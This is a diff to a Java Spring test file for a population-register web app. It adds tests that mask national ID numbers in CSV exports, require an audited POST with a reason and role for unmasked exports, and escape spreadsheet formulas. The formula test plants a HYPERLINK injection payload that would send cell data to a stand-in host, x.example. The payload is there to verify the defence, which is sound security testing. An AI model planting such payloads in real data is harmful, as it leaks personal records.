@@ -2,7 +2,9 @@ package org.olive.app.population;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.olive.app.population.LedgerTestData.*;
+import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
 import java.io.StringReader;
@@ -112,14 +114,63 @@ class PopulationWebTest {
         assertThat(rows.get(0).toList()).containsExactly("登记号", "公民身份号码", "姓名", "性别", "年龄", "村（社区）",
                 "村（社区）代码", "列入期间");
         assertThat(rows).hasSize(7);
-        // an analyst may unmask: the export carries the full ID (it is audited as an export)
-        assertThat(body).contains(ID_ZHANG_WEI, "东海社区居委会", V_DONGHAI);
+        // issue 11, item 8: a plain GET is masked for every role, even one that may unmask
+        assertThat(body).doesNotContain(ID_ZHANG_WEI).contains(org.olive.identity.IdNumber.mask(ID_ZHANG_WEI),
+                "东海社区居委会", V_DONGHAI);
         assertThat(web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null)).isEqualTo(before + 1);
+        assertThat(web.lastDetail("POPULATION_LIST")).contains("masked");
 
         String cadre = mvc.perform(get("/population/members.csv").param("period", P2).param("list", "registered")
                         .session(web.login("cadre")))
                 .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
         assertThat(cadre).doesNotContain(ID_ZHANG_WEI, "王强").contains(org.olive.identity.IdNumber.mask(ID_ZHANG_WEI));
+    }
+
+    /** Issue 11, item 8: an unmasked export is an explicit POST with a reason, audited with it, for ADMIN and ANALYST. */
+    @Test
+    void unmaskedExportNeedsAPostAReasonAndARole() throws Exception {
+        var analyst = web.login("analyst");
+        mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
+                .session(analyst)).andExpect(status().isBadRequest());
+        mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
+                .param("reason", " 短 ").session(analyst)).andExpect(status().isBadRequest());
+        mvc.perform(post("/population/members.csv").param("period", P2).param("list", "registered")
+                .param("reason", "核对低保名单").session(analyst)).andExpect(status().isForbidden());
+        long before = web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null);
+        String body = mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2)
+                        .param("list", "registered").param("reason", "核对低保名单").session(analyst))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
+        assertThat(body).contains(ID_ZHANG_WEI);
+        assertThat(web.audits("EXPORT_PERSONAL_DATA", "POPULATION_LIST", null)).isEqualTo(before + 1);
+        assertThat(web.lastDetail("POPULATION_LIST")).contains("UNMASKED", "核对低保名单");
+        for (String user : new String[] {"cadre", "policy"}) {
+            mvc.perform(post("/population/members.csv").with(csrf()).param("period", P2).param("list", "registered")
+                    .param("reason", "核对低保名单").session(web.login(user))).andExpect(status().isForbidden());
+        }
+        assertThat(web.page(get("/population").param("period", P2).session(analyst)))
+                .contains("unmasked-export", "name=\"reason\"");
+        assertThat(web.page(get("/population").param("period", P2).session(web.login("cadre"))))
+                .doesNotContain("unmasked-export");
+    }
+
+    /** Issue 11, item 7: a name that a spreadsheet would evaluate comes out escaped. */
+    @Test
+    void csvExportEscapesFormulaCells() throws Exception {
+        String name = jdbc.sql("SELECT name FROM person WHERE id_number = :id").param("id", ID_ZHANG_WEI)
+                .query(String.class).single();
+        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
+        jdbc.sql("UPDATE person SET name = :n WHERE id_number = :id").param("n", formula).param("id", ID_ZHANG_WEI).update();
+        try {
+            String body = mvc.perform(get("/population/members.csv").param("period", P2).param("list", "registered")
+                            .session(web.login("analyst")))
+                    .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
+            List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(body.substring(1))).getRecords();
+            assertThat(rows.stream().map(r -> r.get(2))).contains("'" + formula)
+                    .noneMatch(cell -> cell.startsWith("="));
+        } finally {
+            jdbc.sql("UPDATE person SET name = :n WHERE id_number = :id").param("n", name).param("id", ID_ZHANG_WEI)
+                    .update();
+        }
     }
 
     @Test
